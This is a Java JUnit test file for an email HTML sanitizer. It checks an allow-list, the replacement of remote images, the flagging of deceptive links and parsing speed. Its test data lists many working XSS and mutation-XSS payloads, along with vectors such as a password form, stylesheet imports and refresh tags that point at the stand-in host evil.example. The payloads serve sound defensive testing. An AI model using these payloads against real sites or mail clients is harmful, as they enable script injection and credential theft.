package io.aftercare.mail.reading;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.Map;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {

    @ParameterizedTest
    @ValueSource(strings = {
            "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
            "<img src='x' onerror=alert(1)//", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
            "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<textarea><img title=\"</textarea><img src onerror=alert(1)>\">",
            "<title><a title=\"</title><img src onerror=alert(1)>\">",
            "<xmp><p title=\"</xmp><img src onerror=alert(1)>\">",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)>",
            "<object data=javascript:alert(1)>",
            "<embed src=//evil.example/x.swf>", "<applet code=x>", "<template><script>alert(1)</script></template>",
            "<a href=javascript:alert(1)>x</a>", "<a href='java\nscript:alert(1)'>x</a>",
            "<a href='&#106;avascript:alert(1)'>x</a>",
            "<a href=' javascript:alert(1)'>x</a>", "<a href='\u0001javascript:alert(1)'>x</a>",
            "<a href='vbscript:x'>x</a>",
            "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='/camunda/app/admin'>x</a>",
            "<a href='//evil.example'>x</a>",
            "<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "<img src='data:text/html;base64,PHNjcmlwdD4='>",
            "<img src='file:///etc/passwd'>",
            "<img srcset='https://evil.example/1.png 2x'>", "<div style='background:url(//evil.example/x)'>x</div>",
            "<p style='width:expression(alert(1))'>x</p>",
            "<style>@import url(//evil.example/x.css); body{background:url(//evil.example)}</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<table background=//evil.example/x.png><tr><td background=//evil.example/y.png>x</td></tr></table>",
            "<body onload=alert(1) background=//evil.example>",
            "<base href=//evil.example/>", "<base href='javascript:alert(1)//'><a href=x>x</a>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<form action=//evil.example><input name=password type=password><button>Log in</button></form>",
            "<input type=image src=//evil.example/x>",
            "<video poster=//evil.example/x src=//evil.example/y><source src=//evil.example/z></video>",
            "<audio src=//evil.example/x autoplay>",
            "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
            "<p id=documentURI class=x name=cookie>x</p>",
            "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!--><script>alert(1)</script>-->",
            "<![CDATA[><script>alert(1)</script>]]>",
            "<?xml-stylesheet href=//evil.example/x.xsl?>",
            "<a href=\"https://a.example/\" onclick=alert(1) style=position:fixed target=_top download "
                    + "ping=//evil.example>x</a>",
            "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<img/src=`x`onerror=alert(1)>",
            "<plaintext><script>alert(1)</script>", "<frameset><frame src=//evil.example></frameset>"})
    void nothingOutsideTheAllowListIsLeft(String attack) {
        for (String html : new String[] {attack, "<table><tr><td>" + attack, "<p title=\"" + attack,
                "<ul><li><b>" + attack + "</b>", "<math>" + attack, "<svg>" + attack,
                "<svg><desc>" + attack, "<select><option>" + attack, attack + "<p>after</p>"}) {
            String safe = SafeHtml.of(html).html();
            AllowList.holds(safe);
            // What a browser makes of it when it is written into a page and read back stays as harmless.
            AllowList.holds(Jsoup.parse("<div>" + safe + "</div>").body().html());
            AllowList.holds(SafeHtml.of(safe).html());
        }
    }

    @Test
    void imagesFromElsewhereAreReplacedAndCounted() {
        SafeHtml safe = SafeHtml.of("""
                <img src="https://a.example/1.png" alt="Our logo"><img src="//a.example/2.png">\
                <img srcset="https://a.example/3.png 2x">
                <img src="HTTP://a.example/4.png" width=1 height=1><input type=image src="https://a.example/5.png">
                <img src="cid:one@x"><img src="data:image/png;base64,AAAA"><img alt="no source">""");
        assertThat(safe.remoteImages()).isEqualTo(5);
        assertThat(safe.html()).contains("[image: Our logo]", "cid:one@x", "data:image/png")
                .doesNotContain("a.example");
        assertThat(safe.text()).contains("[image: Our logo]");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            https://bank.example             | https://evil.example/pay           | true
            www.bank.example                 | https://evil.example/bank.example  | true
            Log in at bank.example now       | https://bank.example.evil.example/ | true
            bank.example                     | https://bank.example@evil.example/ | true
            bank.example                     | https://xn--bnk-qla.example/       | true
            https://bank.example             | https://bank.example/login         | false
            bank.example                     | https://www.bank.example/login     | false
            WWW.Bank.Example                 | https://bank.example/              | false
            our shop                         | https://shop.example/x             | false
            tree.ged                         | https://files.example/tree.ged     | true
            write to ada@bank.example        | mailto:ada@bank.example            | false
            """)
    void aLinkWhoseWordsNameAnotherHostShowsWhereItLeads(String words, String target, boolean shown) {
        SafeHtml safe = SafeHtml.of("<a href=\"" + target + "\">" + words + "</a>");
        assertThat(safe.html().contains("[leads to " + target + "]")).isEqualTo(shown);
        assertThat(safe.html()).contains("title=\"" + target + "\"", "rel=\"noopener noreferrer nofollow\"");
        if (target.startsWith("http")) {
            assertThat(safe.text()).contains(target);
        }
    }

    @Test
    void pictureNamesStandInTheTextWhereThePicturesStandInTheHtml() {
        assertThat(SafeHtml.of("<p>First <img src='cid:a@x' alt=screen> then</p><p>second <img src='cid:b@x'></p>",
                Map.of("a@x", "a.png", "b@x", "b.png")).text())
                .isEqualTo("First [image: a.png] then\n\nsecond [image: b.png]");
    }

    @ParameterizedTest
    @ValueSource(strings = {"<div>", "<table><tr><td>", "<blockquote>", "<b><i>", "<a href=http://a.example>b.example",
            "<p id=signature>x", "<img src=x>", "<svg>", "<math>",
            "<!--", "<![CDATA[", "&#x41;", "&lt", "<p a=b c=d e=f>", "</p>", "<li>", "<option>", "<font color=red>",
            "<div style='border:none;border-top:solid #E1E1E1 1.0pt'>x"})
    void aMegabyteOfAnythingIsMadeSafeInTime(String repeated) {
        String html = repeated.repeat(1_000_000 / repeated.length());
        String safe = assertTimeoutPreemptively(Duration.ofSeconds(15), () -> SafeHtml.of(html).html());
        AllowList.holds(safe);
    }
}
